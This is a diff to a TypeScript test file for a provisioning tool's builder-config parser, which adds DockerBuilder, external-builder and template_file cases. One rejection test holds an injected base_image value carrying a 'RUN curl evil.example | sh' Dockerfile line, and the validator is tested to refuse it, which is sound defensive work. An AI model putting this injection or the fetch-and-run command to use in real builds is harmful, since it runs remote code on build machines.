@@ -1,11 +1,19 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import { isFlareError } from "../errors/flare-error.ts";
-import { resolveBuilders } from "./builders.ts";
+import { externalBuildersRefused, resolveBuilders } from "./builders.ts";
 import type { ResolvedBuilders } from "./types.ts";
 
 const SFB = "nvflare.lighter.impl.static_file.StaticFileBuilder";
-const DEFAULTS = { configFolder: "", requireSignedJobs: null, dockerImage: null };
+const DOCKER = "nvflare.lighter.impl.docker.DockerBuilder";
+const DEFAULTS = {
+  configFolder: "",
+  requireSignedJobs: null,
+  dockerImage: null,
+  docker: null,
+  templateFiles: [],
+  external: [],
+};
 
 const ok: [string, unknown, Partial<ResolvedBuilders>][] = [
   ["an absent block", undefined, DEFAULTS],
@@ -45,7 +53,72 @@ const ok: [string, unknown, Partial<ResolvedBuilders>][] = [
       { path: "nvflare.lighter.impl.cert.CertBuilder" },
       { path: "nvflare.lighter.impl.signature.SignatureBuilder" },
     ],
-    DEFAULTS,
+    { templateFiles: ["a.yml", "b.yml"] },
+  ],
+  [
+    "a single WorkspaceBuilder template_file",
+    [
+      {
+        path: "nvflare.lighter.impl.workspace.WorkspaceBuilder",
+        args: { template_file: "aws_template.yml" },
+      },
+    ],
+    { templateFiles: ["aws_template.yml"] },
+  ],
+  [
+    "builders only NVFlare can run, kept in order with their args for NVFlare's Python",
+    [
+      { path: "nvflare.lighter.impl.aws.AWSBuilder" },
+      { path: SFB, args: { config_folder: "c" } },
+      { path: "com.example.CustomAuditBuilder", args: { level: 3 } },
+      { path: "nvflare.lighter.impl.azure.AzureBuilder", args: null },
+    ],
+    {
+      configFolder: "c",
+      external: [
+        { path: "nvflare.lighter.impl.aws.AWSBuilder", args: {} },
+        { path: "com.example.CustomAuditBuilder", args: { level: 3 } },
+        { path: "nvflare.lighter.impl.azure.AzureBuilder", args: {} },
+      ],
+    },
+  ],
+  [
+    "DockerBuilder without args: the reference's defaults",
+    [{ path: DOCKER }],
+    {
+      docker: {
+        baseImage: "python:3.10",
+        requirementsFile: "requirements.txt",
+        requirementsFileExplicit: false,
+      },
+    },
+  ],
+  [
+    "DockerBuilder with base_image and requirements_file",
+    [
+      {
+        path: DOCKER,
+        args: { base_image: "nvcr.io/nvidia/pytorch:24.01-py3", requirements_file: "req/site.txt" },
+      },
+    ],
+    {
+      docker: {
+        baseImage: "nvcr.io/nvidia/pytorch:24.01-py3",
+        requirementsFile: "req/site.txt",
+        requirementsFileExplicit: true,
+      },
+    },
+  ],
+  [
+    "DockerBuilder with null args",
+    [{ path: DOCKER, args: { base_image: null, requirements_file: null } }],
+    {
+      docker: {
+        baseImage: "python:3.10",
+        requirementsFile: "requirements.txt",
+        requirementsFileExplicit: false,
+      },
+    },
   ],
   [
     "several StaticFileBuilders: the last one's config wins, the last docker_image stays",
@@ -80,6 +153,31 @@ const fail: [string, unknown, string][] = [
   ],
   ["a numeric config_folder", [{ path: SFB, args: { config_folder: 1 } }], "config_folder must be a string"],
   ["a list docker_image", [{ path: SFB, args: { docker_image: ["a"] } }], "docker_image must be a string"],
+  [
+    "an unknown DockerBuilder arg (its constructor has no **kwargs)",
+    [{ path: DOCKER, args: { base_image: "python:3.12", image: "x" } }],
+    `Class ${DOCKER} has parameters error: TypeError: DockerBuilder.__init__() got an unexpected keyword argument 'image'.`,
+  ],
+  [
+    "a numeric base_image",
+    [{ path: DOCKER, args: { base_image: 3 } }],
+    "DockerBuilder base_image must be an image name without spaces or line breaks",
+  ],
+  [
+    "a base_image that would add a Dockerfile line",
+    [{ path: DOCKER, args: { base_image: "python:3.10\nRUN curl evil.example | sh" } }],
+    "DockerBuilder base_image must be an image name without spaces or line breaks",
+  ],
+  [
+    "an empty base_image",
+    [{ path: DOCKER, args: { base_image: "" } }],
+    "DockerBuilder base_image must be an image name without spaces or line breaks",
+  ],
+  [
+    "a list requirements_file",
+    [{ path: DOCKER, args: { requirements_file: ["a.txt"] } }],
+    "DockerBuilder requirements_file must be a non-empty path",
+  ],
 ];
 
 describe("resolveBuilders", () => {
@@ -102,29 +200,46 @@ describe("resolveBuilders", () => {
     });
   }
 
-  for (const path of [
-    "nvflare.lighter.impl.docker.DockerBuilder",
-    "nvflare.lighter.impl.aws.AWSBuilder",
-    "nvflare.lighter.impl.azure.AzureBuilder",
-    "com.example.CustomAuditBuilder",
-  ]) {
-    test(`rejects ${path} naming the class and the stock builders`, () => {
-      assert.throws(
-        () => resolveBuilders([{ path: SFB }, { path }]),
-        (error: unknown) =>
-          isFlareError(error, "LOCAL_SITE_INVALID") &&
-          error.message ===
-            `Invalid local participant definition: Can't load class ${path}: flare-provision cannot run builder classes other than the stock ones` &&
-          /StaticFileBuilder, CertBuilder, SignatureBuilder and WorkspaceBuilder/.test(error.hint),
-      );
-    });
-  }
+  test("externalBuildersRefused names the first class and says how to run it", () => {
+    const error = externalBuildersRefused([{ path: "com.example.CustomAuditBuilder" }, { path: "x.Y" }]);
+    assert.equal(error.code, "LOCAL_SITE_INVALID");
+    assert.equal(
+      error.message,
+      "Invalid local participant definition: Can't load class com.example.CustomAuditBuilder: flare-provision cannot run builder classes other than the stock ones",
+    );
+    assert.match(
+      error.hint,
+      /StaticFileBuilder, CertBuilder, SignatureBuilder, WorkspaceBuilder and DockerBuilder/,
+    );
+    assert.match(error.hint, /--python PATH or FLARE_PROVISION_PYTHON/);
+  });
+
+  test("a second DockerBuilder fails with BUILD_FAILED, as the reference's does creating nvflare_compose again", () => {
+    assert.throws(
+      () => resolveBuilders([{ path: DOCKER }, { path: DOCKER, args: { base_image: "python:3.12" } }]),
+      (error: unknown) =>
+        isFlareError(error, "BUILD_FAILED") && error.exitCode === 1 && /listed twice/.test(error.message),
+    );
+  });
 
   test("stops at the first bad entry, in list order", () => {
     assert.throws(
       () =>
-        resolveBuilders([{ path: "com.example.First" }, { path: SFB, args: { require_signed_jobs: "x" } }]),
-      (error: unknown) => isFlareError(error) && error.message.includes("com.example.First"),
+        resolveBuilders([
+          { path: SFB, args: { config_folder: 1 } },
+          { path: SFB, args: { require_signed_jobs: "x" } },
+        ]),
+      (error: unknown) => isFlareError(error) && error.message.includes("config_folder"),
+    );
+  });
+
+  test("rejects a WorkspaceBuilder template_file that is not a name or a list of names", () => {
+    assert.throws(
+      () =>
+        resolveBuilders([
+          { path: "nvflare.lighter.impl.workspace.WorkspaceBuilder", args: { template_file: [1] } },
+        ]),
+      (error: unknown) => isFlareError(error, "LOCAL_SITE_INVALID") && /template_file/.test(error.message),
     );
   });
 
